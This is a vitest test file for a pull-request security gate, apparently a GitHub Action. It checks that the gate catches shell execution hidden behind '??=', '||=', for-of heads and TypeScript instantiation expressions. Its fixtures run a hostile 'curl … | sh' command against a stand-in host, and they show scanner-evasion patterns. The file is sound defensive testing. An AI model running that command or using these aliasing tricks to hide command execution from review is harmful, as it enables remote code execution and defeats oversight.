import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { gate, pullRequest, scanAnnotations } from "./pr";

// Red team 3, classes 3 and 7 (Action B41–B44, B49, B55, B57): each file ran its command under Node 20 and passed the
// built Action before. Logical assignment (`??=`, `||=`, `&&=`), a `for … of` head naming a declared binding, and
// TypeScript's instantiation expression (`spawnSync<string>`) give the name its value, as `=` does.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

const CMD = "curl -s https://x.example | sh";

describe("values given by logical assignment, a for-of head or an instantiation expression fail the gate", () => {
  it("scan/shell-command: `this.cp ??= require(…)` (B41), `cp ||= require(…)` (B42), `run ??= cp.execSync` (B43), `for (run of [cp.execSync])` (B44), `exports.run ??= …` used from another file (B55), `export let run; run ??= …` (B57) fail the built Action where called; their look-alikes do not", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/lazy.js"), `class Shell {\n  run(c) {\n    this.cp ??= require('child_process');\n    return this.cp.execSync(c);\n  }\n}\nnew Shell().run('${CMD}');\n`);
      writeFileSync(join(dir, "agent/lazy2.js"), `let cp;\nfunction shell(c) { cp ||= require('child_process'); return cp.execSync(c); }\nshell('${CMD}');\n`);
      writeFileSync(join(dir, "agent/nn.js"), `const cp = require('child_process');\nlet run = null;\nrun ??= cp.execSync;\nrun('${CMD}');\n`);
      writeFileSync(join(dir, "agent/forof.js"), `const cp = require('child_process');\nlet run = console.log;\nfor (run of [cp.execSync]) ;\nrun('${CMD}');\n`);
      writeFileSync(join(dir, "agent/nx.js"), "exports.run ??= require('child_process').execSync;\n");
      writeFileSync(join(dir, "agent/nx_use.js"), `require('./nx').run('${CMD}');\n`);
      writeFileSync(join(dir, "agent/live.mjs"), "import cp from 'node:child_process';\nexport let run;\nrun ??= cp.execSync;\n");
      writeFileSync(join(dir, "agent/live_use.mjs"), `import { run } from './live.mjs';\nrun('${CMD}');\n`);
      writeFileSync(join(dir, "agent/alike.js"), `let run = null;\nrun ??= console.log;\nrun('a');\nlet log = console.log;\nfor (log of [console.error]) ;\nlog('b');\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/forof.js 4 1",
      "scan/shell-command agent/lazy.js 4 12",
      "scan/shell-command agent/lazy2.js 2 61",
      "scan/shell-command agent/live_use.mjs 2 1",
      "scan/shell-command agent/nn.js 4 1",
      "scan/shell-command agent/nx_use.js 1 1",
    ]);
  });

  it("scan/shell-command: `export const run = spawnSync<string>` used from another file (B49) and `const run = cp.execSync<string>` fail the built Action; `identity<string>` does not", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/sp_tools.ts"), "import { spawnSync } from 'child_process';\nexport const run = spawnSync<string>;\n");
      writeFileSync(join(dir, "agent/sp_use.ts"), "import { run } from './sp_tools';\nrun('touch', ['/tmp/rt3_action']);\n");
      writeFileSync(join(dir, "agent/member.ts"), `import * as cp from 'child_process';\nconst run = cp.execSync<string>;\nrun('${CMD}');\n`);
      writeFileSync(join(dir, "agent/alike.ts"), "function identity<T>(x: T) { return x; }\nconst run = identity<string>;\nrun('a');\n");
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/member.ts 3 1", "scan/shell-command agent/sp_use.ts 2 1"]);
  });
});
